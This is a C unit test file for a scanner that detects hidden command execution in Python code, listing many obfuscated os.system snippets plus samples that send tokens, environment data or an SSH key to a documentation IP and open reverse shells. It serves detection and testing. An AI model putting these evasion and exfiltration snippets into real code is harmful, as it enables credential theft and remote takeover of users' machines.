/* SPDX-License-Identifier: Apache-2.0 */
/* Each way of hiding a call is seen through, with the right rule, reach, line and layers; look-alikes are
 * left alone. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "scanner/rules_blob.h"
#include "scanner/smell.h"

static struct hg_smell_rules *rules;

static int setup(void **state)
{
    struct hg_rules_entry entry;
    struct hg_error err = {""};
    size_t cursor = 0;
    (void)state;
    if (hg_smell_rules_new(&rules) != 0)
        return -1;
    while (hg_rules_blob_next(&cursor, &entry) == 1) {
        if (hg_rules_entry_is(&entry, ".ini") &&
            hg_smell_rules_add(rules, entry.text, entry.size, entry.name, &err) != 0)
            return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    hg_smell_rules_free(rules);
    return 0;
}

struct sample {
    const char *rule; /* NULL: nothing of medium severity or above */
    enum hg_reach reach;
    uint32_t line;
    const char *layers;
    const char *text;
};

static int expected(const struct hg_findings *out, const struct sample *s)
{
    for (size_t i = 0; i < out->count; i++) {
        const struct hg_finding *f = &out->items[i];
        const char *layers = f->layers == NULL ? "" : f->layers;
        if (strcmp(f->rule, s->rule) == 0 && f->reach == s->reach && f->line == s->line &&
            strcmp(layers, s->layers == NULL ? "" : s->layers) == 0)
            return 1;
    }
    return 0;
}

static void check(const struct sample *samples, size_t count)
{
    size_t bad = 0;
    for (size_t i = 0; i < count; i++) {
        const struct sample *s = &samples[i];
        struct hg_findings out = {0};
        assert_int_equal(
            hg_smell_scan(rules, (const uint8_t *)s->text, strlen(s->text), HG_KIND_SOURCE, NULL, &out), 0);
        int ok = s->rule == NULL ? hg_findings_max(&out) < HG_SEV_MEDIUM : expected(&out, s);
        if (!ok) {
            bad++;
            print_error("--- sample %zu, wanted %s %s line %u:\n%s", i, s->rule == NULL ? "nothing" : s->rule,
                        hg_reach_name(s->reach), s->line, s->text);
            for (size_t k = 0; k < out.count; k++)
                print_error("    got %s %s line %u [%s] %s\n", out.items[k].rule,
                            hg_reach_name(out.items[k].reach), out.items[k].line,
                            out.items[k].layers == NULL ? "" : out.items[k].layers, out.items[k].message);
        }
        hg_findings_clear(&out);
    }
    assert_int_equal(bad, 0);
}

#define SYSTEM "HG-PY-001", HG_REACH_LOAD
static const struct sample names[] = {
    {SYSTEM, 2, NULL, "import os as o\no.system('x')\n"},
    {SYSTEM, 2, NULL, "from os import system as s\ns('x')\n"},
    {SYSTEM, 2, NULL, "from os import *\nsystem('x')\n"},
    {SYSTEM, 2, NULL, "import os.path\nos.system('x')\n"},
    {SYSTEM, 3, NULL, "import os\nf = os.system; g = f\ng('x')\n"},
    {SYSTEM, 3, NULL, "import os\n(a, b) = (os.system, 1)\na('x')\n"},
    {SYSTEM, 2, NULL, "import os\n(f := os.system)('x')\n"},
    {SYSTEM, 2, NULL, "import os\ngetattr(os, 'sys' + 'tem')('x')\n"},
    {SYSTEM, 1, NULL, "__import__('os').system('x')\n"},
    {SYSTEM, 2, NULL, "import importlib\nimportlib.import_module('o' 's').system('x')\n"},
    {SYSTEM, 3, NULL, "import os\nf = os.system\nglobals()['f']('x')\n"},
    {SYSTEM, 3, NULL, "import os\nf = os.system\nvars()['f']('x')\n"},
    {SYSTEM, 2, NULL, "import sys\nsys.modules['os'].system('x')\n"},
    {SYSTEM, 2, NULL, "import os\nos.__dict__['system']('x')\n"},
    {SYSTEM, 2, NULL, "import os\nvars(os)['system']('x')\n"},
    {SYSTEM, 2, NULL, "import os\nos.__dict__.get('system')('x')\n"},
    {SYSTEM, 2, NULL, "import os\nos.__getattribute__('system')('x')\n"},
    {SYSTEM, 1, NULL, "__builtins__.__import__('os').system('x')\n"},
    {SYSTEM, 1, NULL, "__builtins__['__import__']('os').system('x')\n"},
    {SYSTEM, 2, NULL, "import functools, os\nfunctools.partial(os.system, 'x')()\n"},
    {SYSTEM, 2, NULL, "import os\nlist(map(os.system, ['x']))\n"},
    {SYSTEM, 2, NULL, "import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()\n"},
    {SYSTEM, 2, NULL, "import os, atexit\natexit.register(os.system, 'x')\n"},
    {SYSTEM, 2, NULL, "import os\n(lambda c: os.system(c))('x')\n"},
    {SYSTEM, 2, NULL, "import os, operator\noperator.attrgetter('system')(os)('x')\n"},
    {SYSTEM, 2, NULL, "import torch\ntorch.os.system('x')\n"},
    {SYSTEM, 3, NULL, "import os\nd = {'a': os.system}\nd['a']('x')\n"},
    {SYSTEM, 4, NULL, "import os\nclass A:\n    run = os.system\nA.run('x')\n"},
    {SYSTEM, 4, NULL, "import os\nf = None\nif f is None: f = os.system\nf('x')\n"},
    {SYSTEM, 5, NULL,
     "import os\nf = print\nfor i in range(2):\n    if i: pass\n    f('x')\n    f = os.system\n"},
    {SYSTEM, 3, NULL,
     "import os\ns = ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])\ngetattr(os, s)('x')\n"},
    {SYSTEM, 2, NULL, "import os\ngetattr(os, 'metsys'[::-1])('x')\n"},
    {SYSTEM, 4, NULL, "import os\ndef d(s):\n    return s[::-1]\ngetattr(os, d('metsys'))('x')\n"},
    {SYSTEM, 2, NULL, "import os\n[0 for os in ()]; os.system('x')\n"},
    {SYSTEM, 1, NULL, "import os; os.system.__call__('x')\n"},
    {"HG-PY-100", HG_REACH_LOAD, 1, NULL, "x = ().__class__.__base__.__subclasses__()\n"},
};

static const struct sample reach[] = {
    {"HG-PY-001", HG_REACH_CALL, 3, NULL, "import os\ndef f():\n    os.system('x')\n"},
    {SYSTEM, 3, NULL, "import os\ndef f():\n    os.system('x')\nf()\n"},
    {SYSTEM, 3, NULL, "import os\ndef f():\n    os.system('x')\ndef g():\n    f()\ng()\n"},
    {SYSTEM, 3, NULL, "import os\nclass A:\n    os.system('x')\n"},
    {SYSTEM, 4, NULL, "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()\n"},
    {"HG-PY-001", HG_REACH_CALL, 4, NULL,
     "import os\nclass A:\n    def __init__(self):\n        os.system('x')\n"},
    {SYSTEM, 4, NULL, "import os\nclass A:\n    def run(self):\n        os.system('x')\nA().run()\n"},
    {SYSTEM, 2, NULL, "import os\ndef f(x=os.system('x')):\n    pass\n"},
    {SYSTEM, 2, NULL, "import os\n@os.system\ndef f():\n    pass\n"},
    {SYSTEM, 5, NULL, "import os\ndef now(f):\n    f()\n@now\ndef g(): os.system('x')\n"},
    {SYSTEM, 2, NULL, "import os\n[os.system(c) for c in 'ab']\n"},
    {"HG-PY-001", HG_REACH_CALL, 3, NULL, "import os\nif __name__ == '__main__':\n    os.system('x')\n"},
    {SYSTEM, 3, NULL, "import os\nif __name__ != '__main__':\n    os.system('x')\n"},
    {SYSTEM, 5, NULL, "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('x')\n"},
    {SYSTEM, 3, NULL, "import os\ndef __getattr__(name):\n    os.system('x')\n"},
    {SYSTEM, 4, NULL,
     "import os\nclass M:\n    def __init_subclass__(cls):\n        os.system('x')\nclass B(M): pass\n"},
    {SYSTEM, 4, NULL,
     "import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('x')\nclass B(metaclass=M): "
     "pass\n"},
    {SYSTEM, 3, NULL, "import os\nclass A:\n    def __class_getitem__(c, x): os.system('x')\nA[int]\n"},
    {SYSTEM, 3, NULL,
     "import os, enum\nclass A(enum.Enum):\n    def __init__(self, x): os.system('x')\n    B = 1\n"},
    {SYSTEM, 4, NULL,
     "import os, enum\nclass B(enum.IntEnum):\n    def __new__(c, x):\n        os.system('x')\nclass A(B):\n "
     "   X = 1\n"},
    {SYSTEM, 5, NULL,
     "import os, enum\nclass A(enum.Enum):\n    B = 1\n    @classmethod\n    def _missing_(c, v): "
     "os.system('x')\nA(7)\n"},
    {SYSTEM, 3, NULL, "import os\nclass E(Exception):\n    def __init__(self): os.system('x')\nraise E\n"},
    {SYSTEM, 5, NULL,
     "import os\nclass A:\n    __match_args__ = ('x',)\n    @property\n    def x(self): "
     "os.system('x')\nmatch A():\n    case A(1): pass\n"},
    {SYSTEM, 3, NULL, "import os\nclass A:\n    def keys(self): os.system('x')\ndict(**A())\n"},
    {SYSTEM, 4, NULL,
     "import os\nclass B: pass\nclass M:\n    def __init__(self): os.system('x')\nclass A(B, M): "
     "pass\nA()\n"},
    {SYSTEM, 3, NULL, "import os\nclass A:\n    def __init__(self, x): os.system('x')\nlist(map(A, [1]))\n"},
    {SYSTEM, 3, NULL,
     "import os\nclass M(type):\n    def __or__(c, o): os.system('x')\nclass A(metaclass=M): pass\nA | "
     "int\n"},
    {SYSTEM, 3, NULL, "import os\nclass A:\n    __init__ = lambda self: os.system('x')\nA()\n"},
    {SYSTEM, 2, NULL, "import os, json\ndef f(s): os.system('x')\njson.loads = f\n"},
};

static const struct sample escapes[] = {
    {"HG-PY-028", HG_REACH_LOAD, 3, NULL, "import os\nfor k in os.__dict__:\n    os.__dict__[k]('x')\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os\nx = [v for k, v in os.__dict__.items()]\n"},
    {SYSTEM, 2, NULL, "import os\ntype('A', (), {'__init__': lambda s: os.system('x')})()\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import json, os\njson.loads = os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os, sys\nsys.breakpointhook = os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os, warnings\nwarnings.showwarning = os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os\nx = [os.system]\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os\nx = {'a': os.execv}\n"},
    {"HG-PY-032", HG_REACH_LOAD, 3, NULL,
     "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os\nfor os.path.join in [os.system]: pass\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL, "import os\n__getattr__ = os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 4, NULL,
     "import os\nclass A:\n    def __matmul__(s, f): f('x')\nA() @ os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 4, NULL,
     "import os\nclass A:\n    def __getitem__(s, f): f('x')\nA()[os.system]\n"},
    {"HG-PY-032", HG_REACH_LOAD, 4, NULL,
     "import os\nclass A:\n    def __lt__(s, f): f('x')\nA() < os.system\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL,
     "import functools, json, os\njson.loads = functools.partial(os.system, 'x')\n"},
    {"HG-PY-032", HG_REACH_LOAD, 2, NULL,
     "import json, os\njson.loads = os.system; g = lambda: os.system('x')\n"},
    {"HG-PY-033", HG_REACH_LOAD, 3, NULL,
     "import copyreg, os\nclass A: pass\ncopyreg.pickle(A, lambda a: (os.system, ('id',)))\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL,
     "import functools, os\nfunctools.reduce(getattr, ['system'], os)('x')\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os\nvars(os)\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL,
     "import inspect, os\ndict(inspect.getmembers(os))['system']('x')\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os\ntype(os).__getattribute__(os, 'system')('x')\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os, operator\noperator.attrgetter('sys' 'tem')(os)\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os\ndef g(): return os\ng()\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import os\nmatch os:\n    case object(system=f): f('x')\n"},
    {"HG-PY-034", HG_REACH_LOAD, 2, NULL, "import subprocess\nx = [subprocess]\n"},
    {"HG-PY-034", HG_REACH_LOAD, 3, NULL, "import os\nd = {}\nd['x'] = os\n"},
    {"HG-PY-001", HG_REACH_LOAD, 4, NULL,
     "import importlib.util as u\ns = u.find_spec('os')\nm = u.module_from_spec(s)\nm.system('x')\n"},
    {"HG-PY-001", HG_REACH_LOAD, 3, NULL,
     "from importlib.machinery import ModuleSpec, BuiltinImporter\nfrom importlib.util import "
     "module_from_spec\nmodule_from_spec(ModuleSpec('posix', BuiltinImporter)).system('x')\n"},
    {"HG-PY-001", HG_REACH_LOAD, 2, NULL,
     "import importlib.util as u\nu.find_spec('os').loader.load_module().system('x')\n"},
    {"HG-PY-001", HG_REACH_LOAD, 2, NULL, "import sys\nsys.meta_path[0].load_module('posix').system('x')\n"},
    {"HG-PY-002", HG_REACH_LOAD, 2, NULL, "import webbrowser\nwebbrowser.GenericBrowser(['id']).open('x')\n"},
    {"HG-PY-001", HG_REACH_LOAD, 2, NULL, "import pydoc\npydoc.pipepager('x', 'id')\n"},
    {"HG-PY-010", HG_REACH_LOAD, 2, NULL, "import tkinter\ntkinter.Tcl().eval('exec id')\n"},
    {"HG-PY-035", HG_REACH_LOAD, 2, NULL,
     "from logging.config import dictConfig as d\nd(dict(version=1, formatters=dict(f={'()': "
     "'subprocess.getoutput', 'cmd': 'id'})))\n"},
    {"HG-PY-033", HG_REACH_CALL, 4, NULL,
     "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\n"},
    {"HG-PY-033", HG_REACH_CALL, 5, NULL,
     "import os\nclass A:\n    def __reduce__(self):\n        r = eval, ('1',)\n        return r\n"},
    {"HG-PY-032", HG_REACH_CALL, 3, NULL, "import json, os\ndef f():\n    json.loads = os.system\n"},
    {"HG-PY-001", HG_REACH_CALL, 4, NULL,
     "import os\nclass A:\n    @property\n    def x(self): os.system('x')\n"},
    {"HG-PY-001", HG_REACH_CALL, 4, NULL,
     "import os, abc\nclass A(metaclass=abc.ABCMeta):\n    def __init__(self):\n        os.system('x')\n"},
    {"HG-PARSE-001", HG_REACH_LOAD, 4, NULL, "if 0:\n    x = 1\n\\\n    print(1)\n"},
};

static const struct sample layers[] = {
    {SYSTEM, 2, "base64", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n"},
    {"HG-PY-021", HG_REACH_LOAD, 2, NULL,
     "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n"},
    {SYSTEM, 1, "hex", "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827782729'))\n"},
    {SYSTEM, 2, "rot13", "import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz(\"k\")', 'rot13'))\n"},
    {SYSTEM, 1, "exec", "exec('import os;' + 'os.system(\"x\")')\n"},
    {SYSTEM, 1, "exec>exec", "exec('exec(\"import os;os.system(1)\")')\n"},
    {SYSTEM, 1, "exec", "eval(compile('__import__(\"os\").system(\"x\")', '', 'eval'))\n"},
    {"HG-PY-001", HG_REACH_CALL, 2, "exec", "def f():\n    exec('import os;os.system(1)')\n"},
    {"HG-PY-020", HG_REACH_LOAD, 1, NULL, "exec(open('x').read())\n"},
    {"HG-PARSE-001", HG_REACH_LOAD, 1, "exec", "exec('x = = 1')\n"},
};

static const struct sample taints[] = {
    {"HG-PY-022", HG_REACH_LOAD, 3, NULL,
     "import requests\nr = requests.get('http://198.51.100.7')\nexec(r.text)\n"},
    {"HG-PY-022", HG_REACH_LOAD, 2, NULL,
     "import urllib.request as u, os\nos.system(u.urlopen('http://198.51.100.7').read())\n"},
    {"HG-PY-062", HG_REACH_LOAD, 3, NULL,
     "import os, requests\nt = os.environ['HF_TOKEN']\nrequests.post('http://198.51.100.7', json={'t': "
     "t})\n"},
    {"HG-PY-062", HG_REACH_LOAD, 3, NULL,
     "import os, requests\nt = str(dict(os.environ))\nrequests.post('http://198.51.100.7', "
     "data=t.encode())\n"},
    {"HG-PY-062", HG_REACH_LOAD, 4, NULL,
     "import os, urllib.request as u\np = os.path.expanduser('~/.ssh/id_rsa')\nd = open(p, "
     "'rb').read()\nu.urlopen('http://198.51.100.7', d)\n"},
    {"HG-PY-062", HG_REACH_LOAD, 4, NULL,
     "import socket\nfrom huggingface_hub import get_token\ns = "
     "socket.socket()\ns.send(get_token().encode())\n"},
    {"HG-PY-005", HG_REACH_LOAD, 3, NULL, "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"},
    {"HG-PY-014", HG_REACH_LOAD, 3, NULL,
     "import subprocess, socket\ns = socket.socket()\nsubprocess.Popen(['sh'], stdin=s)\n"},
};

static const struct sample benign[] = {
    {NULL, 0, 0, NULL, "# os.system('x')\n\"\"\"os.system('x')\"\"\"\nx = 'os.system'\n"},
    {NULL, 0, 0, NULL, "class M:\n    def system(self, x): return x\nM().system('x')\n"},
    {NULL, 0, 0, NULL, "import os\nos.makedirs('x', exist_ok=True)\np = os.path.join('a', 'b')\n"},
    {NULL, 0, 0, NULL,
     "import torch\nclass N(torch.nn.Module):\n    def forward(self, x):\n        return self.eval()(x)\n"},
    {NULL, 0, 0, NULL, "def exec(x): return x\nexec(input())\n"},
    {NULL, 0, 0, NULL, "import base64\nx = base64.b64decode('aGVsbG8gd29ybGQ=')\n"},
    {NULL, 0, 0, NULL, "import os\ntoken = os.environ.get('HF_TOKEN')\nif token: print(len(token))\n"},
    {NULL, 0, 0, NULL,
     "import re\np = re.compile('a' + 'b')\nimport importlib\nm = importlib.import_module('json')\n"},
    {NULL, 0, 0, NULL, "import json\nx = json.loads(open('config.json').read())\n"},
    {NULL, 0, 0, NULL,
     "import os\nif hasattr(os, 'fork') and getattr(os, 'name', '') == 'posix': print(os.sep)\n"},
    {NULL, 0, 0, NULL, "import json, os\njson.loads = os.getenv\nx = [os.path.join, os.getcwd]\n"},
    {NULL, 0, 0, NULL,
     "try:\n    import ctypes\nexcept ImportError:\n    ctypes = None\nif ctypes is not None: print(1)\n"},
    {NULL, 0, 0, NULL, "import importlib.util\nok = importlib.util.find_spec('scipy') is not None\n"},
    {NULL, 0, 0, NULL,
     "import enum\nclass A(enum.Enum):\n    B = 1\n    @property\n    def x(self): return "
     "self.value\nA(1)\n"},
    {NULL, 0, 0, NULL, "x = dict(a=1, b='os.system')\nprint(x['a'])\n"},
    {NULL, 0, 0, NULL,
     "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'class': "
     "'logging.StreamHandler'}}})\n"},
    {NULL, 0, 0, NULL, "if 1:\n    x = 1 + \\\n2\n    \\\n    y = 2\n"},
    {NULL, 0, 0, NULL, ""},
};

#define TABLE(name) check(name, sizeof name / sizeof *name)
static void test_names(void **state)
{
    (void)state;
    TABLE(names);
}
static void test_reach(void **state)
{
    (void)state;
    TABLE(reach);
}
static void test_escapes(void **state)
{
    (void)state;
    TABLE(escapes);
}
static void test_layers(void **state)
{
    (void)state;
    TABLE(layers);
}
static void test_taints(void **state)
{
    (void)state;
    TABLE(taints);
}
static void test_benign(void **state)
{
    (void)state;
    TABLE(benign);
}

/* A call on a line is not reported once more as a value that is taken there. */
static void test_once(void **state)
{
    static const char text[] = "import os\nx = [os.system]; x[0]('id')\n";
    struct hg_findings out = {0};
    (void)state;
    assert_int_equal(hg_smell_scan(rules, (const uint8_t *)text, sizeof text - 1, HG_KIND_SOURCE, NULL, &out),
                     0);
    for (size_t i = 0; i < out.count; i++)
        assert_string_equal(out.items[i].rule, "HG-PY-001");
    assert_true(out.count > 0);
    hg_findings_clear(&out);
}

/* Inputs that grow faster than they are long: a decision in bounded time. */
static void test_bounds(void **state)
{
    static const struct {
        const char *head, *unit, *tail;
        unsigned count;
    } cases[] = {
        {"x = 'a'\n", "x = x + x\n", "exec(x)\n", 2000},
        {"x = 'a'\n", "x += 'bcdefgh'\n", "", 20000},
        {"import os\nx = ", "(lambda: ", "os.system('x')", 0},
        {"", "exec('x = 1')\n", "", 5000},
        {"d = {}\n", "d['k'] = d\n", "d['k']['k']()\n", 5000},
        {"f = print\n", "f = f if f else [f]\n", "f()\n", 5000},
        {"", "def f(a=lambda: f()): f(f)\n", "f()\n", 3000},
        {"", "class A(A): pass\n", "A()\n", 3000},
        {"x = [", "[i for i in 'ab' for j in 'cd'], ", "]\n", 3000},
        {"", "x = [chr(c) for c in [chr(d) for d in range(3)]]\n", "", 3000},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        size_t unit = strlen(cases[i].unit), head = strlen(cases[i].head), tail = strlen(cases[i].tail);
        size_t size = head + unit * cases[i].count + tail;
        char *text = malloc(size + 1);
        assert_non_null(text);
        memcpy(text, cases[i].head, head);
        for (unsigned k = 0; k < cases[i].count; k++)
            memcpy(text + head + k * unit, cases[i].unit, unit);
        memcpy(text + size - tail, cases[i].tail, tail);
        struct hg_findings out = {0};
        struct timespec from, to;
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
        assert_int_equal(hg_smell_scan(rules, (const uint8_t *)text, size, HG_KIND_SOURCE, NULL, &out), 0);
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
        double seconds = (double)(to.tv_sec - from.tv_sec) + 1e-9 * (double)(to.tv_nsec - from.tv_nsec);
        if (seconds > 2.0)
            fail_msg("case %zu took %.1f s", i, seconds);
        hg_findings_clear(&out);
        free(text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_names),   cmocka_unit_test(test_reach),
                                       cmocka_unit_test(test_escapes), cmocka_unit_test(test_layers),
                                       cmocka_unit_test(test_taints),  cmocka_unit_test(test_benign),
                                       cmocka_unit_test(test_once),    cmocka_unit_test(test_bounds)};
    return cmocka_run_group_tests(tests, setup, teardown);
}
